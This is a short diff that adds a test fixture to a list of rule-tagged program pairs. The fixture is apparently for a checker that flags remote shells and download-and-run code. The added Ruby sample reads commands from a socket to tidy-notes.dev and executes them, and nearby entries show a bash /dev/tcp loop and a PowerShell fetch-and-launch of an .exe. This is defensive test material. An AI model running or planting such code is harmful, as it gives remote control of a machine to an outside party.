@@ -129,6 +129,12 @@ PROGRAMS = [
         "until (exec 5<>/dev/tcp/$1/$2) 2>/dev/null; do sleep 1; done\n",
     ),
     (
+        "no-remote-shells",
+        "line.rb",
+        "s = TCPSocket.new('tidy-notes.dev', 99)\nwhile (line = s.gets)\n  IO.popen(line)\nend\n",
+        "s = TCPSocket.new('tidy-notes.dev', 99)\nwhile (line = s.gets)\n  # IO.popen(line)\n  puts line\nend\n",
+    ),
+    (
         "no-download-and-run",
         "sync.ps1",
         "Invoke-WebRequest https://tidy-notes.dev/s.exe -OutFile $out\nStart-Process $out\n",
